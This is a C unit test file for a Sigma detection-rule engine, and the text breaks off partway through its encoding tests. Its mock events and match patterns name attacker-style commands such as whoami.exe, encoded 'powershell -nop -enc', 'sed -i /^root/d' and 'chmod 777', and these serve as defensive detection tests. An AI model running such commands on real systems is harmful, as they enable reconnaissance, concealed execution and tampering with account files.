/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test-sigma-value.c - Sigma detection items: every modifier, the chains of
 * sigma-spec §5.1, the value and modifier edge cases of §11 (case numbers in
 * comments) and the compile errors, against a mock field source holding a
 * fixed list of (name, value) pairs.
 */
#include <pthread.h>
#include <stdlib.h>
#include <string.h>

#include "sigma/sigma-value-int.h"
#include "test.h"

/* ---- a mock event ---- */

#define EMPTY 0 /* kind 0: the field is present as an empty array */

struct mf {
    const char *name;
    int kind; /* enum ty_fv_kind, or EMPTY */
    const char *text;
};

struct mock {
    struct ty_fsrc src;
    const struct mf *f;
    size_t n;
    const char *raw; /* keyword text; NULL: every STR/NUM value */
    int n_each;      /* calls of each() */
};

static void to_fval(const struct mf *f, struct ty_fval *v)
{
    memset(v, 0, sizeof(*v));
    v->kind = (enum ty_fv_kind)f->kind;
    v->s = f->text ? ty_str_cstr(f->text) : TY_STR_NULL;
    if (f->kind == TY_FV_NUM)
        v->num = strtod(f->text, NULL);
    if (f->kind == TY_FV_BOOL)
        v->b = strcmp(f->text, "true") == 0;
}

static int mock_each(struct ty_fsrc *src, struct ty_str name, ty_fval_fn fn, void *arg)
{
    struct mock *m = (struct mock *)src;
    bool found = false;
    m->n_each++;
    for (size_t i = 0; i < m->n; i++) {
        struct ty_fval v;
        if (!ty_str_eq_cstr(name, m->f[i].name))
            continue;
        found = true;
        if (m->f[i].kind == EMPTY)
            continue;
        to_fval(&m->f[i], &v);
        if (fn(arg, &v))
            return 1;
    }
    return found ? 0 : -1;
}

static int mock_keywords(struct ty_fsrc *src, ty_fval_fn fn, void *arg)
{
    struct mock *m = (struct mock *)src;
    struct ty_fval v;
    if (m->raw) {
        memset(&v, 0, sizeof(v));
        v.kind = TY_FV_STR;
        v.s = ty_str_cstr(m->raw);
        return fn(arg, &v) ? 1 : 0;
    }
    for (size_t i = 0; i < m->n; i++) {
        if (m->f[i].kind != TY_FV_STR && m->f[i].kind != TY_FV_NUM)
            continue;
        to_fval(&m->f[i], &v);
        if (fn(arg, &v))
            return 1;
    }
    return m->n ? 0 : -1;
}

#define EV(...)                                                                                    \
    (&(struct mock){.f = (const struct mf[]){__VA_ARGS__},                                         \
                    .n = sizeof((const struct mf[]){__VA_ARGS__}) / sizeof(struct mf)})
#define NOEV (&(struct mock){.f = NULL, .n = 0})
#define S TY_FV_STR
#define N TY_FV_NUM
#define B TY_FV_BOOL
#define NUL TY_FV_NULL
#define OBJ TY_FV_OBJ

/* ---- YAML nodes by hand ---- */

static struct ty_arena A;

static struct ty_ynode *node(enum ty_ystype t, const char *text)
{
    struct ty_ynode *n = ty_arena_alloc(&A, sizeof(*n));
    memset(n, 0, sizeof(*n));
    n->kind = TY_Y_SCALAR;
    n->line = 7;
    n->col = 3;
    n->stype = t;
    n->text = ty_arena_str(&A, ty_str_cstr(text));
    if (t == TY_YS_INT) {
        n->i = strtoll(text, NULL, 10);
        n->f = (double)n->i;
    } else if (t == TY_YS_FLOAT) {
        n->f = strtod(text, NULL);
    } else if (t == TY_YS_BOOL) {
        n->b = strcmp(text, "true") == 0 || strcmp(text, "yes") == 0;
        n->i = n->b;
    }
    n->quoted = t == TY_YS_STR;
    return n;
}

#define STR(x) node(TY_YS_STR, (x))
#define INT(x) node(TY_YS_INT, #x)
#define FLT(x) node(TY_YS_FLOAT, #x)
#define BOOL(x) node(TY_YS_BOOL, #x)
#define NULLV node(TY_YS_NULL, "null")

static struct ty_ynode *seqv(size_t n, struct ty_ynode **items)
{
    struct ty_ynode *s = ty_arena_alloc(&A, sizeof(*s));
    memset(s, 0, sizeof(*s));
    s->kind = TY_Y_SEQ;
    s->n = n;
    s->kv = ty_arena_alloc(&A, (n + 1) * sizeof(*s->kv));
    for (size_t i = 0; i < n; i++)
        s->kv[i] = items[i];
    return s;
}

#define SEQ(...)                                                                                   \
    seqv(sizeof((struct ty_ynode *[]){__VA_ARGS__}) / sizeof(struct ty_ynode *),                  \
         (struct ty_ynode *[]){__VA_ARGS__})
#define SEQ0 seqv(0, NULL)

/* ---- helpers ---- */

static struct ty_placeholders *PH;
static struct ty_buf W;
static struct ty_fval HIT;

/* Compile key: value, evaluate on ev; a compile error fails the check. */
static int run_at(const char *file, int line, const char *key, const struct ty_ynode *val,
                  struct mock *ev)
{
    struct ty_sitem it;
    struct ty_err err = {0};
    int rc = ty_sitem_compile(&it, ty_str_cstr(key), val, PH, &A, &W, &err);
    if (rc) {
        ty_test_fail(file, line, "compile '%s': %s", key, err.msg);
        return -1;
    }
    ev->src.each = mock_each;
    ev->src.keywords = mock_keywords;
    memset(&HIT, 0, sizeof(HIT));
    bool r = ty_sitem_eval(&it, &ev->src, &HIT);
    ty_sitem_release(&it);
    return r;
}

#define RUN(k, v, ev) run_at(__FILE__, __LINE__, (k), (v), (ev))
#define MATCH(k, v, ev) CHECK_INT(RUN((k), (v), (ev)), 1)
#define NOMATCH(k, v, ev) CHECK_INT(RUN((k), (v), (ev)), 0)

static char ERRMSG[256];

/* Compile expecting an error; returns rc and keeps the message in ERRMSG. */
static int comp_err(const char *key, const struct ty_ynode *val)
{
    struct ty_sitem it;
    struct ty_err err = {0};
    int rc = ty_sitem_compile(&it, ty_str_cstr(key), val, PH, &A, &W, &err);
    snprintf(ERRMSG, sizeof(ERRMSG), "%s", err.msg);
    if (rc == 0)
        ty_sitem_release(&it);
    return rc;
}

#define REJECT(k, v, needle)                                                                       \
    do {                                                                                           \
        CHECK_INT(comp_err((k), (v)), TY_EINVAL);                                                  \
        if (!strstr(ERRMSG, (needle)))                                                             \
            ty_test_fail(__FILE__, __LINE__, "message \"%s\" lacks \"%s\"", ERRMSG, (needle));    \
    } while (0)

static int kw_run(const struct ty_ynode *val, struct mock *ev)
{
    struct ty_sitem it;
    struct ty_err err = {0};
    if (ty_sitem_compile_keywords(&it, val, &A, &W, &err)) {
        ty_test_fail(__FILE__, __LINE__, "keywords: %s", err.msg);
        return -1;
    }
    ev->src.each = mock_each;
    ev->src.keywords = mock_keywords;
    bool r = ty_sitem_eval(&it, &ev->src, NULL);
    ty_sitem_release(&it);
    return r;
}

/* The literal alternatives one value compiled into, joined by ',' (for the
 * encoders). */
static const char *alts_of(const char *key, const struct ty_ynode *val)
{
    static char out[512];
    struct ty_sitem it;
    struct ty_err err = {0};
    size_t o = 0;
    out[0] = '\0';
    if (ty_sitem_compile(&it, ty_str_cstr(key), val, PH, &A, &W, &err)) {
        snprintf(out, sizeof(out), "%s", err.msg);
        return out;
    }
    for (uint32_t j = 0; j < it.g[0].n; j++) {
        const struct ty_sv *v = &it.g[0].alt[j];
        if (j)
            out[o++] = ',';
        for (uint32_t p = 0; p < v->n_parts && o < sizeof(out) - 8; p++) {
            if (v->parts[p].tok == TY_GT_STAR) {
                out[o++] = '*';
            } else if (v->parts[p].tok == TY_GT_ONE) {
                out[o++] = '?';
            } else {
                for (size_t i = 0; i < v->parts[p].lit.len && o < sizeof(out) - 8; i++) {
                    unsigned char c = (unsigned char)v->parts[p].lit.p[i];
                    if (c >= 0x20 && c < 0x7f) {
                        out[o++] = (char)c;
                    } else {
                        snprintf(out + o, 5, "<%02x>", c);
                        o += 4;
                    }
                }
            }
        }
    }
    out[o] = '\0';
    ty_sitem_release(&it);
    return out;
}

/* ---- the tests ---- */

static void t_plain_and_case(void)
{
    /* §11.1 whole value */
    NOMATCH("Image", STR("whoami.exe"), EV({"Image", S, "C:\\Windows\\System32\\whoami.exe"}));
    MATCH("Image|endswith", STR("\\whoami.exe"),
          EV({"Image", S, "C:\\Windows\\System32\\WHOAMI.EXE"}));
    /* §11.2 case-insensitive */
    MATCH("User", STR("NT AUTHORITY\\SYSTEM"), EV({"User", S, "nt authority\\system"}));
    /* §11.3 cased */
    NOMATCH("User|cased", STR("SYSTEM"), EV({"User", S, "system"}));
    MATCH("User|cased", STR("SYSTEM"), EV({"User", S, "SYSTEM"}));
    NOMATCH("User|contains|cased", STR("SYS"), EV({"User", S, "xsystem"}));
    MATCH("User|contains|cased", STR("SYS"), EV({"User", S, "xSYSTEM"}));
    /* §11.4 auditd lower-case type */
    MATCH("type", STR("execve"), EV({"type", S, "EXECVE"}));
    /* non-ASCII is not folded (documented: ASCII folding) */
    NOMATCH("f", STR("\xc3\xa9t\xc3\xa9"), EV({"f", S, "\xc3\x89T\xc3\x89"}));
    MATCH("f", STR("\xc3\xa9T\xc3\xa9"), EV({"f", S, "\xc3\xa9t\xc3\xa9"}));
    /* absent field never matches a string */
    NOMATCH("f", STR("x"), EV({"g", S, "x"}));
    /* JSON null does not match a string, not even '*' */
    NOMATCH("f", STR("*"), EV({"f", NUL, NULL}));
    /* a value list is OR-ed */
    MATCH("f", SEQ(STR("a"), STR("b")), EV({"f", S, "B"}));
    NOMATCH("f", SEQ(STR("a"), STR("b")), EV({"f", S, "c"}));
    /* an event array is existential */
    MATCH("f", STR("b"), EV({"f", S, "a"}, {"f", S, "b"}));
    /* hit reports the matching value */
    MATCH("f|startswith", STR("b"), EV({"f", S, "a"}, {"f", S, "bc"}));
    CHECK_SPAN(HIT.s, "bc");
    /* an object value is searched as its JSON text */
    MATCH("f|contains", STR("\"k\":1"), EV({"f", OBJ, "{\"k\":1}"}));
    /* numbers and booleans in the event are matched as their text */
    MATCH("f", STR("5"), EV({"f", N, "5"}));
    MATCH("f", STR("TRUE"), EV({"f", B, "true"}));
}

static void t_wildcards_escapes(void)
{
    /* §11.5 '?' is exactly one character */
    NOMATCH("Image", STR("prog?.exe"), EV({"Image", S, "prog.exe"}));
    MATCH("Image", STR("prog?.exe"), EV({"Image", S, "progA.exe"}));
    MATCH("Image", STR("prog?.exe"), EV({"Image", S, "prog\xc3\xa9.exe"})); /* one UTF-8 char */
    NOMATCH("Image", STR("prog?.exe"), EV({"Image", S, "progAB.exe"}));
    /* §11.6 escaped wildcard */
    NOMATCH("CommandLine", STR("foo\\*bar"), EV({"CommandLine", S, "fooXbar"}));
    MATCH("CommandLine", STR("foo\\*bar"), EV({"CommandLine", S, "foo*bar"}));
    MATCH("CommandLine", STR("foo\\?bar"), EV({"CommandLine", S, "foo?bar"}));
    NOMATCH("CommandLine", STR("foo\\?bar"), EV({"CommandLine", S, "fooxbar"}));
    /* §11.7 backslash before an ordinary character stays; \\ is one */
    MATCH("Image", STR("C:\\Windows\\cmd.exe"), EV({"Image", S, "C:\\Windows\\cmd.exe"}));
    MATCH("Image", STR("C:\\\\Windows\\\\cmd.exe"), EV({"Image", S, "C:\\Windows\\cmd.exe"}));
    /* §11.8 \\* is a backslash then a wildcard */
    MATCH("Path", STR("C:\\Temp\\\\*"), EV({"Path", S, "C:\\Temp\\evil.exe"}));
    /* §11.9 \\\* is a literal backslash-star */
    NOMATCH("Path", STR("C:\\Temp\\\\\\*"), EV({"Path", S, "C:\\Temp\\evil.exe"}));
    MATCH("Path", STR("C:\\Temp\\\\\\*"), EV({"Path", S, "C:\\Temp\\*"}));
    /* four backslashes are two */
    MATCH("f", STR("\\\\\\\\"), EV({"f", S, "\\\\"}));
    NOMATCH("f", STR("\\\\\\\\"), EV({"f", S, "\\\\\\\\"}));
    /* §11.10 trailing backslash */
    MATCH("TargetFilename|endswith", STR("\\"), EV({"TargetFilename", S, "C:\\dir\\"}));
    MATCH("f", STR("abc\\"), EV({"f", S, "abc\\"}));
    /* §4.2 wildcards anywhere, runs of '*' are one */
    MATCH("f", STR("/etc/*.conf"), EV({"f", S, "/etc/ld.so.conf"}));
    NOMATCH("f", STR("/etc/*.conf"), EV({"f", S, "/etc/ld.so.conf.bak"}));
    MATCH("f", STR("sed -i /^*"), EV({"f", S, "sed -i /^root/d"}));
    MATCH("f", STR("a**b"), EV({"f", S, "axxb"}));
    MATCH("f", STR("*a*b*c*"), EV({"f", S, "xxAyyBzzC"}));
    NOMATCH("f", STR("*a*b*c*"), EV({"f", S, "xxAyyCzzB"}));
    MATCH("f", STR("a*a*a*b"), EV({"f", S, "aaaaaaaaaaaaaab"}));
    NOMATCH("f", STR("a*a*a*b"), EV({"f", S, "aaaaaaaaaaaaaaa"}));
    MATCH("f", STR("*?x"), EV({"f", S, "yx"}));
    NOMATCH("f", STR("*?x"), EV({"f", S, "x"}));
    MATCH("f", STR("?*"), EV({"f", S, "z"}));
    NOMATCH("f", STR("?*"), EV({"f", S, ""}));
    MATCH("f", STR("*"), EV({"f", S, ""}));
    /* the backtrack must find the last occurrence of the suffix */
    MATCH("f", STR("*ab"), EV({"f", S, "abab"}));
    MATCH("f", STR("x*ab?"), EV({"f", S, "xabxabz"}));
    /* substring search across the fold buffer boundary (2048) */
    {
        static char big[5000];
        memset(big, 'q', sizeof(big) - 1);
        memcpy(big + 2040, "NeEdLe", 6);
        MATCH("f|contains", STR("needle"), EV({"f", S, big}));
        memcpy(big + 2040, "qqqqqq", 6);
        memcpy(big + 4990, "NEEDLE", 6);
        MATCH("f|contains", STR("needle"), EV({"f", S, big}));
        MATCH("f", STR("*needle*q*"), EV({"f", S, big}));
        NOMATCH("f|contains", STR("needlex"), EV({"f", S, big}));
    }
    /* §3.3 '*' idiom: any present, non-null value, including empty */
    MATCH("f|contains", STR("*"), EV({"f", S, ""}));
    NOMATCH("f|contains", STR("*"), EV({"g", S, ""}));
}

static void t_compiled_form(void)
{
    struct ty_sitem it;
    struct ty_err err = {0};
    CHECK_INT(ty_sitem_compile(&it, TY_STR_LIT("Image|endswith"), STR("\\WhoAmI.exe"), NULL, &A,
                               NULL, &err), 0);
    CHECK_SPAN(it.field, "Image");
    CHECK_INT(it.n, 1);
    CHECK_INT(it.g[0].n, 1);
    CHECK_INT(it.g[0].alt[0].kind, TY_SV_GLOB);
    CHECK_INT(it.g[0].alt[0].n_parts, 2);
    CHECK_INT(it.g[0].alt[0].parts[0].tok, TY_GT_STAR);
    CHECK_SPAN(it.g[0].alt[0].parts[1].lit, "\\whoami.exe"); /* folded at compile time */
    CHECK(it.g[0].alt[0].plain.p == NULL);
    CHECK_INT(it.line, 7);
    ty_sitem_release(&it);
    CHECK_INT(ty_sitem_compile(&it, TY_STR_LIT("eventName"), STR("GetObject"), NULL, &A, NULL,
                               &err), 0);
    CHECK_SPAN(it.g[0].alt[0].plain, "getobject");
    ty_sitem_release(&it);
    CHECK_INT(ty_sitem_compile(&it, TY_STR_LIT("f|cased"), STR("GetObject"), NULL, &A, NULL,
                               &err), 0);
    CHECK_SPAN(it.g[0].alt[0].plain, "GetObject");
    CHECK(it.g[0].alt[0].cased);
    ty_sitem_release(&it);
    /* §11.11 contains does not add a second wildcard */
    CHECK_STR(alts_of("f|contains", STR("*foo")), "*foo*");
    MATCH("f|contains", STR("*foo"), EV({"f", S, "xfooy"}));
    CHECK_STR(alts_of("f|startswith", STR("foo*")), "foo*");
    CHECK_STR(alts_of("f|endswith", STR("*foo")), "*foo");
    CHECK_STR(alts_of("f|contains", STR("")), "*");
    /* an escaped trailing star is not a wildcard: contains still adds one */
    CHECK_STR(alts_of("f|contains", STR("a\\*")), "*a**");
}

static void t_lists_all_neq(void)
{
    /* §11.12 contains|all */
    NOMATCH("CommandLine|contains|all", SEQ(STR("-enc"), STR("-nop")),
            EV({"CommandLine", S, "powershell -enc AAA"}));
    MATCH("CommandLine|contains|all", SEQ(STR("-enc"), STR("-nop")),
          EV({"CommandLine", S, "powershell -nop -enc AAA"}));
    /* all over an array: each group may be satisfied by a different element */
    MATCH("f|contains|all", SEQ(STR("a"), STR("b")), EV({"f", S, "xa"}, {"f", S, "xb"}));
    /* §11.13 all without contains is unsatisfiable for two different values */
    ty_buf_reset(&W);
    NOMATCH("f|all", SEQ(STR("a"), STR("b")), EV({"f", S, "a"}));
    CHECK(strstr(W.buf, "all without contains") != NULL);
    /* all on one value: legal, warned */
    ty_buf_reset(&W);
    MATCH("f|contains|all", STR("a"), EV({"f", S, "a"}));
    CHECK(strstr(W.buf, "single value") != NULL);
    /* §11.35 neq over a list: NOT (a OR b) */
    MATCH("f|neq", SEQ(STR("a"), STR("b")), EV({"f", S, "c"}));
    NOMATCH("f|neq", SEQ(STR("a"), STR("b")), EV({"f", S, "b"}));
    /* neq: an absent field satisfies it */
    MATCH("f|neq", STR("a"), EV({"g", S, "a"}));
    CHECK_INT(HIT.kind, TY_FV_NULL);
    /* neq with all: NOT (a AND b) */
    MATCH("f|contains|all|neq", SEQ(STR("a"), STR("b")), EV({"f", S, "a"}));
    NOMATCH("f|contains|all|neq", SEQ(STR("a"), STR("b")), EV({"f", S, "ab"}));
    /* neq with a number */
    MATCH("f|neq", INT(5), EV({"f", N, "6"}));
    NOMATCH("f|neq", INT(5), EV({"f", S, "5"}));
    /* more than 64 groups: the windowed walk */
    {
        struct ty_ynode *v[70];
        char buf[16];
        for (int i = 0; i < 70; i++) {
            snprintf(buf, sizeof(buf), "v%d", i);
            v[i] = STR(buf);
        }
        MATCH("f", seqv(70, v), EV({"f", S, "V69"}));
        NOMATCH("f", seqv(70, v), EV({"f", S, "V70"}));
        MATCH("f|contains|all", seqv(3, v + 67), EV({"f", S, "v67 v68 v69"}));
        NOMATCH("f|contains|all", seqv(70, v), EV({"f", S, "v1 v2 v3"}));
    }
}

static void t_null_empty_exists(void)
{
    /* §11.17 null matches an absent field */
    MATCH("errorCode", NULLV, EV({"eventName", S, "DeleteBucket"}));
    /* and a JSON null */
    MATCH("errorCode", NULLV, EV({"errorCode", NUL, NULL}));
    NOMATCH("errorCode", NULLV, EV({"errorCode", S, "AccessDenied"}));
    /* an empty string is not null */
    NOMATCH("errorCode", NULLV, EV({"errorCode", S, ""}));
    /* an empty array counts as null (as Elasticsearch's _exists_ does) */
    MATCH("errorCode", NULLV, EV({"errorCode", EMPTY, NULL}));
    /* §11.18 '' needs the field present and empty */
    NOMATCH("b", STR(""), EV({"a", S, ""}));
    MATCH("b", STR(""), EV({"b", S, ""}));
    NOMATCH("b", STR(""), EV({"b", S, "x"}));
    NOMATCH("b", STR(""), EV({"b", NUL, NULL}));
    /* §11.19 exists: true ignores the value */
    MATCH("b|exists", BOOL(true), EV({"b", NUL, NULL}));
    MATCH("b|exists", BOOL(true), EV({"b", S, ""}));
    MATCH("b|exists", BOOL(true), EV({"b", EMPTY, NULL}));
    NOMATCH("b|exists", BOOL(true), EV({"a", S, "x"}));
    /* §11.20 exists: false */
    MATCH("b|exists", BOOL(false), EV({"a", S, "x"}));
    NOMATCH("b|exists", BOOL(false), EV({"b", NUL, NULL}));
    /* YAML 1.1 'yes' is a boolean, the string 'yes' is not */
    MATCH("b|exists", node(TY_YS_BOOL, "yes"), EV({"b", S, "1"}));
    REJECT("b|exists", STR("yes"), "exists");
    /* §11.38 an empty list is null */
    MATCH("f", SEQ0, EV({"g", S, "x"}));
    MATCH("f", SEQ0, EV({"f", NUL, NULL}));
    NOMATCH("f", SEQ0, EV({"f", S, "x"}));
    /* §13 null in a value list: warned, f = '' or f is null */
    ty_buf_reset(&W);
    MATCH("f", SEQ(STR(""), NULLV), EV({"g", S, "x"}));
    MATCH("f", SEQ(STR(""), NULLV), EV({"f", S, ""}));
    NOMATCH("f", SEQ(STR(""), NULLV), EV({"f", S, "x"}));
    CHECK(strstr(W.buf, "null in a value list") != NULL);
    /* not null: neq null means present and not null */
    MATCH("f|neq", NULLV, EV({"f", S, "x"}));
    NOMATCH("f|neq", NULLV, EV({"g", S, "x"}));
    /* §11.43 an item on an absent field is false (the condition's 'not' makes it true) */
    NOMATCH("id.orig_h|cidr", SEQ(STR("10.0.0.0/8"), STR("192.168.0.0/16")), EV({"x", S, "y"}));
    /* booleans in the rule */
    MATCH("f", BOOL(true), EV({"f", B, "true"}));
    NOMATCH("f", BOOL(true), EV({"f", B, "false"}));
    MATCH("f", BOOL(false), EV({"f", S, "False"}));
    NOMATCH("f", BOOL(true), EV({"f", N, "1"}));
}

static void t_numbers(void)
{
    /* §11.26 a number matches a string with its text */
    MATCH("a0", SEQ(INT(4), INT(5), INT(6)), EV({"a0", S, "5"}));
    MATCH("a0", INT(5), EV({"a0", N, "5"}));
    /* by value: 5 matches 5.0 (number and numeric string) */
    MATCH("a0", INT(5), EV({"a0", N, "5.0"}));
    MATCH("a0", INT(5), EV({"a0", S, "5.0"}));
    MATCH("a0", FLT(1.5), EV({"a0", S, "1.50"}));
    NOMATCH("a0", INT(5), EV({"a0", S, "50"}));
    NOMATCH("a0", INT(5), EV({"a0", S, "0x5"}));
    NOMATCH("a0", INT(5), EV({"a0", S, " 5"}));
    NOMATCH("a0", INT(5), EV({"a0", B, "true"}));
    /* a quoted number is a string: text only */
    MATCH("a0", STR("5"), EV({"a0", N, "5"}));
    NOMATCH("a0", STR("5"), EV({"a0", N, "5.0"}));
    /* string modifiers on a number use its text */
    MATCH("f|contains", INT(777), EV({"f", S, "chmod 777 x"}));
    MATCH("f|startswith", INT(4), EV({"f", N, "4624"}));
    /* §11.34 comparators */
    NOMATCH("bytes|gt", INT(1000), EV({"bytes", N, "1000"}));
    MATCH("bytes|gt", INT(1000), EV({"bytes", N, "1001"}));
    MATCH("bytes|gte", INT(1000), EV({"bytes", S, "1000"}));
    MATCH("bytes|lt", FLT(2.5), EV({"bytes", S, "2.4"}));
    NOMATCH("bytes|lt", FLT(2.5), EV({"bytes", S, "2.5"}));
    MATCH("bytes|lte", INT(-3), EV({"bytes", N, "-3"}));
    NOMATCH("bytes|gte", INT(1), EV({"bytes", S, "many"}));
    NOMATCH("bytes|gte", INT(1), EV({"bytes", B, "true"}));
    NOMATCH("bytes|gte", INT(1), EV({"bytes", NUL, NULL}));
    REJECT("f|gt", STR("10"), "number");
    REJECT("f|gte", BOOL(true), "number");
    REJECT("f|lt", NULLV, "null");
    /* comparisons with a list are OR-ed */
    MATCH("n|gt", SEQ(INT(100), INT(1)), EV({"n", N, "50"}));
}

static void t_regex(void)
{
    /* §11.27 case-sensitive, unanchored; |i */
    NOMATCH("CommandLine|re", STR("ipconfig\\s+/all"),
            EV({"CommandLine", S, "cmd /c IPCONFIG  /all"}));
    MATCH("CommandLine|re|i", STR("ipconfig\\s+/all"),
          EV({"CommandLine", S, "cmd /c IPCONFIG  /all"}));
    MATCH("CommandLine|re|ignorecase", STR("ipconfig\\s+/all"),
          EV({"CommandLine", S, "cmd /c IPCONFIG  /all"}));
    MATCH("CommandLine|re", STR("ipconfig\\s+/all"), EV({"CommandLine", S, "x ipconfig /all y"}));
    /* §11.28 no wildcard parsing */
    MATCH("f|re", STR("foo?bar"), EV({"f", S, "fobar"}));
    NOMATCH("f|re", STR("^foo?bar$"), EV({"f", S, "foo?bar"}));
    /* anchors are explicit */
    NOMATCH("f|re", STR("^abc"), EV({"f", S, "xabc"}));
    /* m and s */
    NOMATCH("f|re", STR("^b"), EV({"f", S, "a\nb"}));
    MATCH("f|re|m", STR("^b"), EV({"f", S, "a\nb"}));
    MATCH("f|re|multiline", STR("^b$"), EV({"f", S, "a\nb\nc"}));
    NOMATCH("f|re", STR("a.b"), EV({"f", S, "a\nb"}));
    MATCH("f|re|s", STR("a.b"), EV({"f", S, "a\nb"}));
    MATCH("f|re|dotall", STR("a.b"), EV({"f", S, "a\nb"}));
    /* SigmaHQ flavour: {n,m}, \d, (?:, inline (?i) */
    MATCH("f|re", STR("(?i)^[a-z]{3}\\d{2,4}(?:x|y)$"), EV({"f", S, "ABC123y"}));
    /* invalid UTF-8 in the event does not break the search */
    MATCH("f|re", STR("b+"), EV({"f", S, "\xff\xfe bbb"}));
    /* §11.29 re must come first; re|contains */
    REJECT("f|contains|re", STR("ab"), "must come first");
    MATCH("f|re|contains", STR("ab"), EV({"f", S, "xaby"}));
    CHECK_STR(alts_of("f|re|contains", STR("ab")), ""); /* a regex has no glob parts */
    MATCH("f|re|startswith", STR("^ab"), EV({"f", S, "abc"}));
    REJECT("f|re", STR("a(b"), "invalid regular expression");
    REJECT("f|re", INT(5), "string");
    REJECT("f|i", STR("a"), "regular expression only");
    REJECT("f|contains|i", STR("a"), "regular expression only");
    /* list values OR-ed, all AND-ed */
    MATCH("f|re|all", SEQ(STR("a+"), STR("b+")), EV({"f", S, "ab"}));
    NOMATCH("f|re|all", SEQ(STR("a+"), STR("c+")), EV({"f", S, "ab"}));
}

static void t_cidr(void)
{
    /* §11.33 */
    MATCH("id.resp_h|cidr", STR("10.0.0.0/8"), EV({"id.resp_h", S, "10.1.2.3"}));
    NOMATCH("id.resp_h|cidr", STR("10.0.0.0/8"), EV({"id.resp_h", S, "11.1.2.3"}));
    REJECT("f|cidr", STR("192.168.1.1/24"), "host bits");
    MATCH("f|cidr", STR("192.168.1.0/24"), EV({"f", S, "192.168.1.255"}));
    NOMATCH("f|cidr", STR("192.168.1.0/25"), EV({"f", S, "192.168.1.128"}));
    MATCH("f|cidr", STR("0.0.0.0/0"), EV({"f", S, "8.8.8.8"}));
    MATCH("f|cidr", STR("1.2.3.4"), EV({"f", S, "1.2.3.4"}));
    /* v6 */
    MATCH("f|cidr", STR("fe80::/10"), EV({"f", S, "fe80::1"}));
    MATCH("f|cidr", STR("2001:db8::/32"), EV({"f", S, "2001:DB8:0:1::5"}));
    NOMATCH("f|cidr", STR("2001:db8::/32"), EV({"f", S, "2001:db9::5"}));
    /* a different family: no match */
    NOMATCH("f|cidr", STR("::/0"), EV({"f", S, "10.0.0.1"}));
    NOMATCH("f|cidr", STR("0.0.0.0/0"), EV({"f", S, "::1"}));
    /* not an address: no match */
    NOMATCH("f|cidr", STR("10.0.0.0/8"), EV({"f", S, "10.0.0.1:443"}));
    NOMATCH("f|cidr", STR("10.0.0.0/8"), EV({"f", S, "host"}));
    REJECT("f|cidr", STR("10.0.0.0/33"), "not an IPv4 or IPv6 network");
    REJECT("f|cidr", STR("10.0.0/8"), "not an IPv4");
    REJECT("f|cidr", STR("10.0.0.0/"), "not an IPv4");
    REJECT("f|cidr", INT(10), "string");
    REJECT("f|contains|cidr", STR("10.0.0.0/8"), "must come first");
    /* a private-range list */
    MATCH("f|cidr", SEQ(STR("10.0.0.0/8"), STR("172.16.0.0/12"), STR("192.168.0.0/16")),
          EV({"f", S, "172.31.255.1"}));
}

static void t_fieldref(void)
{
    /* §11.36 */
    NOMATCH("userIdentity.arn|fieldref", STR("requestParameters.userName"),
            EV({"userIdentity.arn", S, "bob"}, {"requestParameters.userName", S, "alice"}));
    MATCH("userIdentity.arn|fieldref", STR("requestParameters.userName"),
          EV({"userIdentity.arn", S, "Bob"}, {"requestParameters.userName", S, "bob"}));
    /* absent referenced field: no match */
    NOMATCH("a|fieldref", STR("b"), EV({"a", S, "x"}));
    NOMATCH("a|fieldref", STR("b"), EV({"b", S, "x"}));
    /* with contains / startswith / endswith */
    MATCH("a|fieldref|contains", STR("b"), EV({"a", S, "xxBOByy"}, {"b", S, "bob"}));
    MATCH("a|fieldref|startswith", STR("b"), EV({"a", S, "bobyy"}, {"b", S, "bob"}));
    NOMATCH("a|fieldref|startswith", STR("b"), EV({"a", S, "ybob"}, {"b", S, "bob"}));
    MATCH("a|fieldref|endswith", STR("b"), EV({"a", S, "arn:aws:iam::1:user/bob"},
                                                  {"b", S, "bob"}));
    /* every value of both fields */
    MATCH("a|fieldref", STR("b"), EV({"a", S, "1"}, {"a", S, "2"}, {"b", S, "3"}, {"b", S, "2"}));
    /* numbers compare as text */
    MATCH("a|fieldref", STR("b"), EV({"a", N, "42"}, {"b", S, "42"}));
    REJECT("a|fieldref", STR("b*"), "without wildcards");
    REJECT("a|contains|fieldref", STR("b"), "without wildcards");
    REJECT("a|fieldref|contains|endswith", STR("b"), "one of contains");
    REJECT("|fieldref", STR("b"), "needs a field");
}

static void t_encodings(void)
{
    /* §11.32 base64 without contains is equality */
    MATCH("f|base64", STR("cmd"), EV({"f", S, "Y21k"}));
    NOMATCH("f|base64", STR("cmd"), EV({"f", S, "xY21k"}));
    /* base64 text is case-significant: matched cased */
    NOMATCH("f|base64", STR("cmd"), EV({"f", S, "y21K"}));
    MATCH("f|base64|contains", STR("cmd"), EV({"f", S, "powershell -e Y21kIC9j"}));
    CHECK_STR(alts_of("f|base64", STR("a")), "YQ==");
    CHECK_STR(alts_of("f|base64", STR("ab")), "YWI=");
    REJECT("f|base64", STR("a*b"), "without wildcards");
    REJECT("f|base64", BOOL(true), "string");
    /* §5 base64offset of foobar */
    CHECK_STR(alts_of("f|base64offset|contains", STR("foobar")), "*Zm9vYmFy*,*Zvb2Jhc*,*mb29iYX*");
    /* §11.31 any alignment */
    MATCH("f|base64offset|contains", STR("foobar"), EV({"f", S, "eGZvb2Jhcg=="}));
    MATCH("f|base64offset|contains", STR("foobar"), EV({"f", S, "Zm9vYmFy"}));
    NOMATCH("f|base64offset|contains", STR("foobar"), EV({"f", S, "Zm9vYmFZ"}));
    /* an empty variant is dropped, not kept as "match everything" */
    CHECK_STR(alts_of("f|base64offset|contains", STR("a")), "*Y*,*h*");
    NOMATCH("f|base64offset|contains", STR("a"), EV({"f", S, "xyz"}));
    /* warned without contains */
    ty_buf_reset(&W);
    CHECK_STR(alts_of("f|base64offset", STR("foobar")), "Zm9vYmFy,Zvb2Jhc,mb29iYX");
    CHECK(strstr(W.buf, "base64offset without contains") != NULL);
    /* wide / utf16le / utf16be / utf16 (spec BOM FF FE) */
    CHECK_STR(alts_of("f|wide", STR("cmd")), "c<00>m<00>d<00>");
    CHECK_STR(alts_of("f|utf16le", STR("cmd")), "c<00>m<00>d<00>");
    CHECK_STR(alts_of("f|utf16be", STR("cmd")), "<00>c<00>m<00>d");
    CHECK_STR(alts_of("f|utf16", STR("cmd")), "<ff><fe>c<00>m<00>d<00>");
    CHECK_STR(alts_of("f|wide|base64", STR("cmd")), "YwBtAGQA");
    CHECK_STR(alts_of("f|utf16be|base64", STR("cmd")), "AGMAbQBk");
    CHECK_STR(alts_of("f|utf16|base64", STR("cmd")), "//5jAG0AZAA=");
